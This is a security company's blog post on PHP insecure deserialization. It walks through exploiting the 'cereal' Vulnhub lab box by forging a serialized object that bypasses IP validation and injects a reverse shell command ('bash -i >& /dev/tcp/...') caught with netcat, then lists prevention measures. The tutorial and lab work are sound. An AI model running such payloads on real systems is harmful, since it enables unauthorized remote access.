Web ApplicationAugust 3, 2022Insecure Deserialization in PHP

In this blog (part of the “Insecure Deserialization” series), we will discuss insecure deserialization vulnerabilities in PHP and its prevention. The purpose of data serialization and deserialization is that it ensures that the object remains a replica of the original item prior to serialization.

Insecure deserialization occurs when an application deserializes user-controllable data. This could allow an attacker to modify serialized objects in order to inject malicious data into the application code, resulting in code execution or arbitrary file read on any vulnerable system. An application’s logic can be further exploited through insecure deserialization by using untrusted or unknown data to launch a denial-of-service attack (DoS attack), run code,escape authentication, or any number of other malicious actions. Let’s first learn about serialization and deserialization before diving into the exploitation part.

What is Serialization?

Serialization is the method by which an object instance’s state information converts into a binary or textual form in order for it to be stored on a system or sent over a network.

Serialization is the process of storing a data object that contains a combination of code and data within a storage area. The serialized data is transformed into a string of bytes that stores the object’s state in a format that can be readily sent. The data can be sent to an application, another data storage (such as an in-memory computing platform), or another location in this serialized form.

What Is Deserialization?

Deserialization is the process of rebuilding a data structure or object from a series of bytes or a string in order to consume the object. This is the opposite of serialization, which is the act of turning a data structure or object into a series of bytes for storage or transmission among devices. A system must be able to deserialize an object state from raw bytes in order to get it over a network or read it from persistent storage.PHP Deserialization Attack

To understand PHP object injections, we have to first understand how PHP serializes and deserializes objects.

When we need to save or send a PHP object over the network, PHP uses serialize() to package it.

serialize(): PHP object -> plain old string that represents the object

When it’s time to utilize the data, PHP uses unserialize() to unpack it and retrieve the underlying object.

unserialize(): stringcontaining object data -> original object

Let’s look at an example of a PHP deserialization vulnerability.For this, we are going to use cereal vulnhub box.

After setting up the box, we move to the home page by navigating to the following link: http://secure.cereal.ctf:44441

We can see that the website has a “ping” functionality and therefore, there could be (from an attacker’s perspectives) a possibility to run system commands via the web app. But when we attempt to inject a command, nothing really happens. Next, we’ll view the front-end code (php.js). Right-click on the web page and click on “View Page Source”.

As can be seen above, there seems to be some sort of serialization logic implemented by the application developer. This is a perfect place to try and test out some malicious payloads.

Next, we’ll send a sample request and capture it via a proxy tool such as Burp Suite.

Let’s briefly understand the HTTP POST body. The type object is denoted by the letter “O”. There are four (4) kinds, as we can see from the serialization code.Similarly, the letters “b”, “s”, and “a” for booleans, strings, and arrays, respectively. The length of the object’s name is indicated by the number immediately after the colon. Consequently, the name of the object is pingTest. A property called ipAddress is defined in the object. IpAddress is a string that is 9 characters long. The IP itself, which is the following item, is likewise a string with a length of 11 characters.

Let’s try to locate a backup of the PHP file to help us better understand how it functions. For that let’s use the  Fuzzer tool for finding hidden directories in the web app. For more details, see the screenshot below.

There’s a forbidden directory called “back_en”. We cannot view the contents of the folder since it appears that the indexes are blocked in “.htaccess” file.

However, one file in the “back_en“ directory, namely “index.php.bak”, can bedownloaded by external users. Next, we’ll download the file using the wget utility.

Before we build the exploit code, we must first understand how the PHP script in “index.php” (or “index.php.bak”) works. Line 28 is where the execution starts because the line above it is a class definition. As can be seen above, the script has a pingTest class. Within the class, we can see many variables such as ipAddress, isValid and more.

It appears that the code takes a serialized pingTest object “obj” via a HTTP POST request. Then, itdeserializes the object via the unserialize() function and then passes the deserialized object “$pingTest” to the validate() and ping() functions.

As a result, it is clear that when we enter an IP address into the web form and click the submit button, JavaScript serializes the object and passes the serialized object to the PHP script. The code checks to see if the IP address value included within the object is legitimate before going ahead to ping it.

The shell_exec() function is used to execute the ping command with the user supplied IP address. Our initial attempt to inject commands was unsuccessful because the IP address value was invalid.

We can try to set the “isValid” Boolean variable to true so we bypass the IP Address validation check.

Quick Recap: The original request, captured using Burp Suite, can be seen below.

Next, we’ll create a malicious payload with system commands, but with the “isValid” variable set to “true” to get around IP address validation. This way, we can bypass the “if” block in the validate() function (pingTest class). This will lead us to the ping function directly where we can execute system commands. If the payload is “ && bash -c ‘/bash -i >& /dev/tcp/ 0>&1”, the code will first execute a ping command to “” and then execute the malicious payload – in this case a reverse shell command. Additionally, we are free to utilize any payload. We must, however, serialize the request on our own. We are going to write a malicious PHPscript that will produce the aforementioned results.

By running the said malicious script, we get a serialized object. Note that we can use any value for the ipAddress variable. In this case, we have used –

We’ll use netcat to listen on port 4444 before running the command for a reverse connection.

nc -nvlp 4444

We can intercept the request using a proxy tool such as Burp Suite and replace the object “obj” with our malicious serialized payload (see above).

After the request is processed, our netcat listener receives a reverse connection from the host:


For user-supplied input, never use the unserialize() method; instead, utilize data-only serialization formats like JSON. In PHP 7, a second optional argument has been added that enables us to definean allow list of acceptable classes if we need to perform PHP deserialization.

The only secure architectural approach is not to accept serialized objects from untrusted sources or to use serialization mediums that only permit primitive data types. If that is not possible, consider one or more of the following:

  • Integrity checks, such as digital signatures, should be applied to serialized objects to stop malicious object creation and data modification.
  • Enforce strict type constraints during deserialization before creating objects as the code typically expects a specified range of classes.
  • Isolate and run code that deserializes in low privilege environments where possible.
  • Log deserialization exceptions and failures, such as where the incoming type is not the expected type, or the deserialization throws exceptions.
  • Limit or keep track of incoming and outgoing networkconnectivity from deserialization servers or containers.
  • Monitor deserialization, alert if a user sends deserialization requests consistently.

In this blog, we discussed insecure deserialization in PHP. In upcoming blogs, we are going to explore insecure deserialization vulnerabilities in other languages such as Java, Python, and .NET.

By partnering with Redfox Security, you’ll get the best security and technical skills required to execute an effective and thorough penetration test. Our offensive security experts have years of experience assisting organizations in protecting their digital assets through penetration testing services.To schedule a call with one of our technical specialists, call 1-800-917-0850 now.

Redfox Security is a diverse network of expert security consultants with a global mindset and a collaborative culture. With a combination of data-driven, research-based, and manual testing methodologies, we proudly deliver robust security solutions.

“Join us on our journey of growth and development by signing up for our comprehensive courses, if you want to excel in the field of cybersecurity.”

Redfox Security Team

by Redfox SecurityTeam

Redfox Security is a fast-growing cybersecurity consulting firm, spread across 4 countries. With over 10 years of global security consulting experience, we help businesses strengthen their security posture. Our mission is to help businesses grow securely with our top-line cyber security consultingservices – and that’s exactly what we do.